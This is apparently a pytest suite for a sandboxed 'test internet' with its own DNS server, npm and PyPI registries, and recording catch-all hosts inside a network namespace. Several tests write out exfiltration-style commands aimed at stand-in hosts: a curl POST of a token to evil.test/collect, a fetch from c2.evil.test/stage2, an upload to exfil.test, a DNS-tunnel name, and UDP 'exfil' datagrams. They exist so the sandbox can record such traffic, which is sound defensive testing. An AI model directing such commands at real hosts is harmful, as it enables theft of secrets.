"""The test internet works on its own, without ciwatch: real curl, npm and pip reach its
registries through its DNS server, its unfamiliar hosts record what they get, and nothing of
it is left on the machine afterwards."""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.support.internet import EVIL, EXFIL, NPM_REGISTRY, PYPI_FILES, PYPI_INDEX, UDP_PORT, TestInternet
from tests.support.internet import dns as wire
from tests.support.internet.core import REPO_ROOT, resolver_wrapper
from tests.support.internet.netns import blackholes_present, cleanup_stale, list_namespaces

pytest_plugins = ["tests.support.internet.fixture"]

pytestmark = pytest.mark.root


def tool(name: str) -> str:
    path = shutil.which(name)
    if path is None:
        pytest.fail(f"{name} is not installed; .ci/run installs it")
    return path


def run(
    internet: TestInternet, argv: list[str], *, env: dict[str, str] | None = None, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """``argv`` with the test resolver, output kept for the assertion messages."""
    return subprocess.run(
        internet.wrap_with_test_resolver(argv), capture_output=True, text=True, env=env, cwd=cwd, timeout=180
    )


def test_curl_gets_a_packument_by_name(internet: TestInternet, tmp_path: Path) -> None:
    package = internet.publish_npm("ciwi-curl-demo", "1.0.0", files={"index.js": "module.exports = 1;\n"})
    url = internet.registry_url + "ciwi-curl-demo"
    result = run(internet, [tool("curl"), "-sS", "--fail", "--cacert", str(internet.ca_cert), url])
    assert result.returncode == 0, result.stderr
    packument = json.loads(result.stdout)
    assert packument["name"] == "ciwi-curl-demo"
    assert packument["dist-tags"] == {"latest": "1.0.0"}
    dist = packument["versions"]["1.0.0"]["dist"]
    assert dist == {"tarball": package.tarball_url, "integrity": package.integrity, "shasum": package.shasum}
    assert dist["tarball"].startswith(f"https://{NPM_REGISTRY}/ciwi-curl-demo/-/")

    tarball = tmp_path / "package.tgz"
    result = run(
        internet,
        [tool("curl"), "-sS", "--fail", "-o", str(tarball), dist["tarball"]],
        env=internet.client_env(tmp_path / "home"),
    )
    assert result.returncode == 0, result.stderr
    assert tarball.read_bytes() == package.tarball
    listing = subprocess.run(["tar", "-tzf", str(tarball)], capture_output=True, text=True, check=True).stdout
    assert sorted(listing.split()) == ["package/index.js", "package/package.json"]

    seen = [(r.method, r.path, r.scheme, r.sni) for r in internet.requests_to(NPM_REGISTRY)]
    assert seen == [
        ("GET", "/ciwi-curl-demo", "https", NPM_REGISTRY),
        ("GET", "/ciwi-curl-demo/-/ciwi-curl-demo-1.0.0.tgz", "https", NPM_REGISTRY),
    ]
    assert NPM_REGISTRY in internet.dns_queries()


def test_scoped_packuments_and_unknown_packages(internet: TestInternet) -> None:
    internet.publish_npm("@ciwi/scoped", "1.0.0")
    internet.publish_npm("@ciwi/scoped", "1.1.0", tag="next")
    curl = [tool("curl"), "-sS", "--cacert", str(internet.ca_cert), "-w", "\n%{http_code}"]
    result = run(internet, [*curl, internet.registry_url + "@ciwi%2fscoped"])
    body, status = result.stdout.rsplit("\n", 1)
    assert status == "200", result
    packument = json.loads(body)
    assert sorted(packument["versions"]) == ["1.0.0", "1.1.0"]
    assert packument["dist-tags"] == {"latest": "1.0.0", "next": "1.1.0"}
    assert (
        packument["versions"]["1.1.0"]["dist"]["tarball"] == f"https://{NPM_REGISTRY}/@ciwi/scoped/-/scoped-1.1.0.tgz"
    )
    result = run(internet, [*curl, internet.registry_url + "ciwi-never-published"])
    assert result.stdout.rsplit("\n", 1)[1] == "404"


@pytest.mark.npm
def test_npm_installs_from_the_test_registry(internet: TestInternet, tmp_path: Path) -> None:
    dep = internet.publish_npm(
        "@ciwi/dep", "1.0.0", package_json_extra={"main": "index.js"}, files={"index.js": "module.exports = 'dep';\n"}
    )
    demo = internet.publish_npm(
        "ciwi-npm-demo",
        "1.2.3",
        package_json_extra={"main": "index.js", "dependencies": {"@ciwi/dep": "^1.0.0"}},
        files={"index.js": "module.exports = require('@ciwi/dep') + '!';\n"},
    )
    project = tmp_path / "app"
    project.mkdir()
    (project / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "private": True}))
    env = internet.client_env(tmp_path / "home")
    argv = [tool("npm"), "install", "--registry", internet.registry_url, "--no-audit", "--no-fund", "ciwi-npm-demo"]
    result = run(internet, argv, env=env, cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr

    installed = json.loads((project / "node_modules/ciwi-npm-demo/package.json").read_text())
    assert installed["version"] == "1.2.3"
    out = subprocess.run(
        [tool("node"), "-p", "require('ciwi-npm-demo')"], cwd=project, capture_output=True, text=True, check=True
    )
    assert out.stdout.strip() == "dep!"
    lock = json.loads((project / "package-lock.json").read_text())["packages"]
    assert lock["node_modules/ciwi-npm-demo"]["integrity"] == demo.integrity
    assert lock["node_modules/@ciwi/dep"]["integrity"] == dep.integrity

    paths = {r.path for r in internet.requests_to(NPM_REGISTRY)}
    assert {"/ciwi-npm-demo", "/@ciwi%2fdep", "/ciwi-npm-demo/-/ciwi-npm-demo-1.2.3.tgz"} <= paths
    assert "/@ciwi/dep/-/dep-1.0.0.tgz" in paths
    # npm asked for no name but the registry's: nothing else was even looked up.
    assert set(internet.dns_queries()) == {NPM_REGISTRY}


def _venv(tmp_path: Path, *options: str) -> Path:
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", *options, str(venv)], check=True, capture_output=True, timeout=120)
    return venv / "bin" / "python"


@pytest.mark.pip
def test_pip_installs_a_wheel_and_an_sdist(internet: TestInternet, tmp_path: Path) -> None:
    wheel = internet.publish_wheel(
        "ciwi-wheel-demo",
        "2.0",
        files={"ciwi_wheel_demo/__init__.py": "VALUE = 'wheel'\n"},
        entry_points={"console_scripts": {"ciwi-wheel-demo": "ciwi_wheel_demo:main"}},
    )
    marker = tmp_path / "setup-ran"
    sdist = internet.publish_sdist(
        "Ciwi.Sdist_Demo",
        "1.0",
        files={"ciwi_sdist_demo/__init__.py": "VALUE = 'sdist'\n"},
        setup_code="import os, pathlib\npathlib.Path(os.environ['CIWI_MARKER']).write_text(os.getcwd())\n",
    )
    assert sdist.filename == "ciwi_sdist_demo-1.0.tar.gz"
    assert wheel.filename == "ciwi_wheel_demo-2.0-py3-none-any.whl"
    python = _venv(tmp_path)
    env = {**internet.client_env(tmp_path / "home"), "CIWI_MARKER": str(marker)}
    argv = [str(python), "-m", "pip", "install", "--index-url", internet.simple_index_url]
    argv += ["--cert", str(internet.ca_cert), "--no-build-isolation", "ciwi-wheel-demo", "ciwi-sdist-demo"]
    result = run(internet, argv, env=env)
    assert result.returncode == 0, result.stdout + result.stderr

    out = subprocess.run(
        [
            str(python),
            "-c",
            "import ciwi_wheel_demo, ciwi_sdist_demo; print(ciwi_wheel_demo.VALUE, ciwi_sdist_demo.VALUE)",
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert out.stdout.split() == ["wheel", "sdist"]
    assert marker.exists(), "the sdist's setup.py did not run when pip built it"
    assert (python.parent / "ciwi-wheel-demo").exists()

    index_paths = {r.path for r in internet.requests_to(PYPI_INDEX)}
    assert {"/simple/ciwi-wheel-demo/", "/simple/ciwi-sdist-demo/"} <= index_paths
    file_paths = {r.path for r in internet.requests_to(PYPI_FILES)}
    assert file_paths == {
        "/packages/ciwi-wheel-demo/ciwi_wheel_demo-2.0-py3-none-any.whl",
        "/packages/ciwi-sdist-demo/ciwi_sdist_demo-1.0.tar.gz",
    }
    assert set(internet.dns_queries()) == {PYPI_INDEX, PYPI_FILES}


def test_simple_index_links_to_the_file_host_with_digests(internet: TestInternet) -> None:
    dist = internet.publish_wheel("ciwi-links", "0.1", requires_python=">=3.8")
    curl = [tool("curl"), "-sS", "--fail", "--cacert", str(internet.ca_cert)]
    page = run(internet, [*curl, internet.simple_index_url + "ciwi-links/"])
    assert page.returncode == 0, page.stderr
    links = re.findall(r'<a href="([^"]+)" data-requires-python="&gt;=3.8">([^<]+)</a>', page.stdout)
    assert links == [(f"{dist.url}#sha256={dist.sha256}", dist.filename)]
    assert dist.url.startswith(f"https://{PYPI_FILES}/")
    redirect = run(
        internet,
        [*curl, "-o", "/dev/null", "-w", "%{http_code} %{redirect_url}", internet.simple_index_url + "Ciwi_Links/"],
    )
    assert redirect.stdout == f"301 {internet.simple_index_url}ciwi-links/"


@pytest.mark.pip
def test_pip_builds_a_setuptools_sdist_where_setuptools_can(internet: TestInternet, tmp_path: Path) -> None:
    python = _venv(tmp_path, "--system-site-packages")  # the setuptools (and wheel) of the Python under test
    probe = subprocess.run(
        [str(python), "-c", "from setuptools.command.bdist_wheel import bdist_wheel"], capture_output=True
    )
    wheel_pkg = subprocess.run([str(python), "-c", "import wheel"], capture_output=True)
    if probe.returncode != 0 and wheel_pkg.returncode != 0:
        pytest.skip("this Python's venv has no bdist_wheel (setuptools < 70.1 without wheel, or no setuptools)")
    marker = tmp_path / "classic-setup-ran"
    internet.publish_sdist(
        "ciwi-classic",
        "3.0",
        backend="setuptools",
        setup_code=f"open({str(marker)!r}, 'w').write('ran')\n",
    )
    argv = [str(python), "-m", "pip", "install", "--no-build-isolation", "ciwi-classic"]
    result = run(internet, argv, env=internet.client_env(tmp_path / "home"))
    assert result.returncode == 0, result.stdout + result.stderr
    assert marker.exists()


def test_unfamiliar_hosts_record_every_request(internet: TestInternet, tmp_path: Path) -> None:
    curl = [tool("curl"), "-sS", "--fail"]
    env = internet.client_env(tmp_path / "home")
    result = run(
        internet, [*curl, "-d", "token=s3cret", "-H", "X-Leak: yes", "https://evil.test/collect?id=1"], env=env
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout == "ok\n"
    result = run(internet, [*curl, "http://c2.evil.test/stage2"], env=env)
    assert result.returncode == 0, result.stderr
    result = run(internet, [*curl, "-X", "PUT", "--data-binary", "@-", "https://exfil.test/up"], env=env)
    assert result.returncode == 0, result.stderr

    evil = internet.requests_to(EVIL)
    assert [(r.scheme, r.method, r.path, r.host_header) for r in evil] == [
        ("https", "POST", "/collect?id=1", "evil.test"),
        ("http", "GET", "/stage2", "c2.evil.test"),
    ]
    assert evil[0].body == b"token=s3cret"
    assert evil[0].header("x-leak") == "yes"
    assert evil[0].sni == "evil.test"
    assert evil[0].client[0] in (internet.namespace.host_v4, internet.namespace.host_v6)
    assert [(r.method, r.path) for r in internet.requests_to(EXFIL)] == [("PUT", "/up")]


def test_served_content_and_wildcard_certificates(internet: TestInternet, tmp_path: Path) -> None:
    url = internet.serve(EVIL, "/payload.sh", "#!/bin/sh\necho stage two\n", content_type="text/x-sh")
    result = run(internet, [tool("curl"), "-sS", "--fail", url], env=internet.client_env(tmp_path / "home"))
    assert result.stdout == "#!/bin/sh\necho stage two\n"
    # The wildcard certificate covers every subdomain of an unfamiliar host.
    result = run(
        internet,
        [tool("curl"), "-sS", "--fail", "https://deep.sub.evil.test/x"],
        env=internet.client_env(tmp_path / "home"),
    )
    assert result.returncode != 0  # a wildcard covers one label only, as in real TLS
    result = run(
        internet, [tool("curl"), "-sS", "--fail", "https://sub.evil.test/x"], env=internet.client_env(tmp_path / "home")
    )
    assert result.returncode == 0, result.stderr
    assert internet.tls_errors(), "the rejected handshake is recorded"


def test_dns_server_answers_test_names_only_and_records_queries(internet: TestInternet) -> None:
    getent = tool("getent")
    result = run(internet, [getent, "ahostsv4", "aGVsbG8.tunnel.evil.test"])
    assert result.returncode == 0, result.stderr
    assert result.stdout.split()[0] == internet.hosts[EVIL].ipv4
    result = run(internet, [getent, "hosts", "not-a-test-name.example"])
    assert result.returncode == 2
    queries = internet.dns_queries()
    assert "aGVsbG8.tunnel.evil.test" in queries  # as received: case kept
    assert "not-a-test-name.example" in queries
    answered = {(q.name, q.qtype): q.rcode for q in internet.dns_log()}
    assert answered[("not-a-test-name.example", "A")] == wire.RCODE_NXDOMAIN
    assert answered[("aGVsbG8.tunnel.evil.test", "A")] == 0

    # AAAA and TCP, asked at the server's own address (not through any resolver).
    assert internet.query_dns(EXFIL, wire.TYPE_AAAA) == (0, [a for a in [internet.hosts[EXFIL].ipv6] if a])
    with socket.create_connection((internet.dns_server, 53), timeout=3) as sock:
        query = wire.build_query("x.exfil.test")
        sock.sendall(struct.pack("!H", len(query)) + query)
        length = struct.unpack("!H", sock.recv(2))[0]
        reply = b""
        for _ in range(100):
            if len(reply) >= length:
                break
            reply += sock.recv(length - len(reply))
    assert wire.parse_response_addresses(reply) == (0, [internet.hosts[EXFIL].ipv4])
    assert internet.dns_log()[-1].transport == "tcp"


def test_udp_datagrams_are_recorded(internet: TestInternet) -> None:
    script = (
        "import socket\n"
        f"for family, _, _, _, address in socket.getaddrinfo('u.evil.test', {UDP_PORT}, type=socket.SOCK_DGRAM):\n"
        "    with socket.socket(family, socket.SOCK_DGRAM) as s:\n"
        "        s.sendto(b'exfil:' + address[0].encode(), address)\n"
    )
    result = run(internet, [sys.executable, "-c", script])
    assert result.returncode == 0, result.stderr
    expected = 2 if internet.hosts[EVIL].ipv6 else 1
    datagrams = internet.udp_datagrams(EVIL, at_least=expected)
    assert len(datagrams) == expected
    assert {d.data for d in datagrams} == {b"exfil:" + a.encode() for a in internet.hosts[EVIL] if a}
    assert all(d.port == UDP_PORT for d in datagrams)


def test_resolver_wrapper_replaces_only_its_own_resolv_conf(internet: TestInternet, tmp_path: Path) -> None:
    before = Path("/etc/resolv.conf").read_bytes()
    result = run(internet, ["cat", "/etc/resolv.conf"])
    assert result.returncode == 0
    assert f"nameserver {internet.dns_server}" in result.stdout
    assert [line for line in result.stdout.splitlines() if line.startswith("nameserver")] == [
        f"nameserver {internet.dns_server}"
    ]
    assert Path("/etc/resolv.conf").read_bytes() == before

    # A bind mount that fails stops the command: never the machine's resolver instead.
    missing = resolver_wrapper(tmp_path / "no-such-resolv.conf", None, ["touch", str(tmp_path / "ran")])
    failed = subprocess.run(missing, capture_output=True, text=True, timeout=30)
    assert failed.returncode == 125
    assert "refusing to run with the machine's resolver" in failed.stderr
    assert not (tmp_path / "ran").exists()


def test_another_internet_closes_without_leftovers(test_internet: TestInternet, tmp_path: Path) -> None:
    with TestInternet.start(tmp_path / "second") as second:
        assert second.namespace.slot != test_internet.namespace.slot
        assert second.namespace.name in list_namespaces()
        assert second.query_dns(EVIL) == (0, [second.hosts[EVIL].ipv4])
        assert second.leftovers()
    assert second.leftovers() == []
    links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True, check=True).stdout
    assert second.namespace.host_if not in links
    routes = subprocess.run(["ip", "route"], capture_output=True, text=True, check=True).stdout
    assert f"198.18.{second.namespace.slot}.0/24" not in routes
    # The session's own internet still works, and its blackholes stay while it lives.
    assert test_internet.query_dns(EVIL) == (0, [test_internet.hosts[EVIL].ipv4])
    assert "198.18.0.0/15" in blackholes_present()


CHILD = """
import sys
from pathlib import Path
from tests.support.internet import TestInternet
internet = TestInternet.start(Path(sys.argv[1]))
print(internet.namespace.name, internet.namespace.host_if, internet.namespace.slot, flush=True)
sys.stdin.read()
"""


def _start_child(directory: Path) -> tuple[subprocess.Popen[str], str, str, int]:
    child = subprocess.Popen(
        [sys.executable, "-c", CHILD, str(directory)],
        cwd=REPO_ROOT,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert child.stdout is not None
    line = child.stdout.readline()
    if not line:
        child.wait(timeout=30)
        pytest.fail(f"the child's test internet did not start: {child.stderr.read() if child.stderr else ''}")
    name, host_if, slot = line.split()
    assert name in list_namespaces()
    return child, name, host_if, int(slot)


def _assert_gone(name: str, host_if: str, slot: int) -> None:
    assert name not in list_namespaces()
    links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True, check=True).stdout
    assert host_if not in links
    routes = subprocess.run(["ip", "route", "show", "table", "all"], capture_output=True, text=True).stdout
    assert f"198.18.{slot}.0/24" not in routes
    others = [n for n in list_namespaces() if n.startswith("ciwinet-")]
    assert bool(blackholes_present()) == bool(others), (others, blackholes_present())


def test_a_terminated_session_cleans_up(tmp_path: Path) -> None:
    child, name, host_if, slot = _start_child(tmp_path)
    child.send_signal(signal.SIGTERM)
    child.communicate(timeout=30)
    _assert_gone(name, host_if, slot)


def test_a_killed_session_is_cleaned_up_by_the_next(tmp_path: Path) -> None:
    child, name, host_if, slot = _start_child(tmp_path)
    child.kill()
    child.communicate(timeout=30)
    assert name in list_namespaces()
    # Its servers noticed that their parent went away (standard input closed) and stopped.
    pids: list[str] = ["?"]
    for _ in range(50):
        pids = subprocess.run(["ip", "netns", "pids", name], capture_output=True, text=True).stdout.split()
        if not pids:
            break
        time.sleep(0.1)
    assert pids == []
    assert name in cleanup_stale()
    _assert_gone(name, host_if, slot)
